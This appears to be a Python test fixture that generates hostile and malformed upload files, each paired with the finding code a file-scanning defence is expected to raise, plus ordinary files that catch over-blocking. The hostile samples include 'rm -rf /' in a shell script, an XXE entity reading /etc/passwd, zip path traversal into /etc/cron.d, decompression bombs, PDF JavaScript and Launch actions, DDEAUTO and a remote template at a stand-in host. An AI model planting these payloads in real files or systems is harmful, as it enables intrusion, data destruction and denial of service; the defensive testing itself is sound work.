"""Files that want to be more than a document, each made here by code, with the finding it meets."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

from PIL import Image

from operation.demonstration.paper import paper

PDF = paper(["A page"])
OFFICE = "application/vnd.openxmlformats-officedocument"
WORD_TYPE = f"{OFFICE}.wordprocessingml.document.main+xml"
EXCEL_TYPE = f"{OFFICE}.spreadsheetml.sheet.main+xml"
WORD_NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {WORD_NAMES}><w:body><w:p/></w:body></w:document>"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
MEGABYTE = 1024 * 1024


def picture(kind: str = "JPEG", **given: object) -> bytes:
    written = io.BytesIO()
    Image.effect_noise((64, 48), 40).convert("RGB").save(written, kind, **given)
    return written.getvalue()


def archive(members: Mapping[str, str | bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return written.getvalue()


def types(main: str) -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def word(body: str = BODY, main: str = WORD_TYPE, **members: str | bytes) -> bytes:
    parts = {"[Content_Types].xml": types(main), "word/document.xml": body}
    return archive(parts | {name.replace("__", "/"): text for name, text in members.items()})


def excel(**members: str | bytes) -> bytes:
    parts = {"[Content_Types].xml": types(EXCEL_TYPE), "xl/workbook.xml": "<workbook/>"}
    return archive(parts | {name.replace("__", "/"): text for name, text in members.items()})


def with_member(name: str, content: str | bytes = b"x") -> bytes:
    members = {"[Content_Types].xml": types(WORD_TYPE), "word/document.xml": BODY, name: content}
    return archive(members)


def in_pdf(dictionary: bytes) -> bytes:
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + dictionary)


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    stream = b"6 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (head, packed)
    return PDF.replace(b"xref\n", stream + b"xref\n", 1)


def chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


def huge_png(side: int) -> bytes:
    """A square of one bit a pixel, all black: millions of pixels in a few kilobytes."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes(side * (side // 8 + 1)), 9)
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_with(extra: bytes) -> bytes:
    """A good picture with one more chunk before its data."""
    good = picture("PNG")
    return good[:33] + extra + good[33:]


def encrypted(package: bytes) -> bytes:
    """The flag of encryption set in every header and directory entry."""
    changed = bytearray(package)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := changed.find(mark, at + 1)) >= 0:
            changed[at + offset] |= 1
    return bytes(changed)


def overlapping() -> bytes:
    """Two names in the directory for one and the same content."""
    package = with_member("word/media/a.png", zlib.compress(b"x"))
    entry = package.rindex(b"PK\x01\x02", 0, package.rindex(b"PK\x05\x06"))
    end = package.rindex(b"PK\x05\x06")
    twin = package[entry:end].replace(b"word/media/a.png", b"word/media/b.png")
    tail = bytearray(package[end:])
    count, size = struct.unpack("<H", tail[10:12])[0], struct.unpack("<I", tail[12:16])[0]
    tail[8:12] = struct.pack("<HH", count + 1, count + 1)
    tail[12:16] = struct.pack("<I", size + len(twin))
    return package[:end] + twin + bytes(tail)


def lying() -> bytes:
    """A member that unfolds to more than its directory says."""
    package = bytearray(excel(**{"xl/worksheets/sheet1.xml": b"0" * MEGABYTE * 4}))
    real = struct.pack("<I", MEGABYTE * 4)
    return bytes(package).replace(real, struct.pack("<I", 100))


def relation(kind: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" '
        'Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
    )


KIND, ACTIVE, FOLLOWED = "FILE_KIND_UNEXPECTED", "FILE_IS_ACTIVE", "FILE_FOLLOWED"
DAMAGED, UNFOLDS, ENTITIES = "FILE_DAMAGED", "FILE_UNFOLDS_TOO_LARGE", "FILE_HAS_ENTITIES"
SCRIPT = b"<html><script>alert(1)</script></html>"

EVIL: dict[str, tuple[Callable[[], bytes], str]] = {
    "a program of Linux named .pdf": (lambda: b"\x7fELF\x02\x01\x01" + bytes(500), KIND),
    "a program of Windows named .pdf": (lambda: b"MZ\x90\0" + bytes(500), KIND),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", KIND),
    "a page with a script": (lambda: b"<!DOCTYPE html>" + SCRIPT, KIND),
    "a vector picture with a script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        KIND,
    ),
    "a picture of another kind": (lambda: picture("GIF"), KIND),
    "a plain archive": (lambda: archive({"readme.txt": "hello"}), KIND),
    "a self-extracting document": (lambda: b"MZ" + bytes(510) + word(), KIND),
    "nothing at all": (lambda: b"\0" * 64, KIND),
    "a PDF behind a picture's head": (lambda: b"GIF89a;" + PDF, KIND),
    "a PDF with a script": (lambda: in_pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), ACTIVE),
    "a PDF with an escaped script": (
        lambda: in_pdf(b"/OpenAction << /S /J#61vaScr#69pt >>"),
        ACTIVE,
    ),
    "a PDF with a script in an object stream": (
        lambda: object_stream(b"6 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        ACTIVE,
    ),
    "a PDF that launches": (lambda: in_pdf(b"/AA << /O << /S /Launch /F (cmd) >> >>"), ACTIVE),
    "a PDF with a file inside": (lambda: in_pdf(b"/Names << /EmbeddedFiles 7 0 R >>"), ACTIVE),
    "a PDF that nobody can open": (
        lambda: PDF.replace(b"/Root", b"/Encrypt 9 0 R /Root"),
        "FILE_ENCRYPTED",
    ),
    "a PDF that is an archive too": (lambda: PDF + archive({"a": "b"}), FOLLOWED),
    "half a PDF": (lambda: PDF[: len(PDF) // 2], DAMAGED),
    "a PDF that unfolds to 100 MB": (lambda: object_stream(bytes(100 * MEGABYTE)), UNFOLDS),
    "a JPEG with an archive behind its end": (lambda: picture() + archive({"a": "b"}), FOLLOWED),
    "a JPEG with a page behind its end": (lambda: picture() + SCRIPT, FOLLOWED),
    "a PNG with a program behind its end": (lambda: picture("PNG") + b"\x7fELF", FOLLOWED),
    "half a JPEG": (lambda: picture()[:-200], DAMAGED),
    "a PNG with a broken part": (lambda: picture("PNG").replace(b"IDAT", b"IDAU", 1), DAMAGED),
    "a PNG of 400 million pixels": (lambda: huge_png(20_000), UNFOLDS),
    "a PNG that claims 3.6 billion pixels": (
        lambda: (
            picture("PNG")[:16]
            + struct.pack(">II", 60_000, 60_000)
            + b"\x08\x02\0\0\0"
            + struct.pack(
                ">I", zlib.crc32(b"IHDR" + struct.pack(">II", 60_000, 60_000) + b"\x08\x02\0\0\0")
            )
            + picture("PNG")[33:]
        ),
        UNFOLDS,
    ),
    "a PNG with a text of 100 MB": (
        lambda: png_with(chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(100 * MEGABYTE), 9))),
        DAMAGED,
    ),
    "a workbook that unfolds a thousandfold": (
        lambda: excel(**{"xl/sheet.xml": b"<a>" + b" " * 30 * MEGABYTE + b"</a>"}),
        UNFOLDS,
    ),
    "a workbook of 5,000 parts": (
        lambda: excel(**{f"xl/{n}.xml": "<a/>" for n in range(5_000)}),
        UNFOLDS,
    ),
    "a workbook that lies of its size": (lying, DAMAGED),
    "a document whose parts overlap": (overlapping, ""),
    "a document that laughs": (lambda: word(LAUGHS + BODY), ENTITIES),
    "a document that reads a file": (
        lambda: word('<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + BODY),
        ENTITIES,
    ),
    "a document with macros": (lambda: with_member("word/vbaProject.bin"), ACTIVE),
    "a document of the macro kind": (
        lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ACTIVE,
    ),
    "a document with an outside template": (
        lambda: word(**{"word/_rels/settings.xml.rels": relation("attachedTemplate")}),
        ACTIVE,
    ),
    "a document that calls a program": (
        lambda: word(
            BODY.replace("<w:p/>", "<w:p><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:p>")
        ),
        ACTIVE,
    ),
    "a document with an object inside": (lambda: with_member("word/embeddings/o.bin"), ACTIVE),
    "a document with a program inside": (lambda: with_member("word/media/setup.exe"), ACTIVE),
    "a document that writes elsewhere": (
        lambda: with_member("../../../etc/cron.d/x.xml", "<a/>"),
        "FILE_NAMES_PATHS",
    ),
    "a document with an absolute name": (
        lambda: with_member("/etc/passwd.xml", "<a/>"),
        "FILE_NAMES_PATHS",
    ),
    "an encrypted document": (lambda: encrypted(word()), "FILE_ENCRYPTED"),
    "a document with a page behind its end": (lambda: word() + SCRIPT, FOLLOWED),
    "a document that breaks off": (lambda: word(BODY[:-20]), DAMAGED),
}


def good() -> Iterator[tuple[str, bytes]]:
    """Ordinary files, so that a wall that refuses everything is found out."""
    yield "PDF", PDF
    yield "PDF", object_stream(b"6 0 << /Type /Annot >>")
    yield "JPEG", picture()
    yield "JPEG", picture() + picture()
    yield "PNG", picture("PNG")
    yield "WORD", word(**{"word/_rels/document.xml.rels": relation("hyperlink")})
    yield "EXCEL", excel(**{"xl/worksheets/sheet1.xml": "<worksheet/>"})
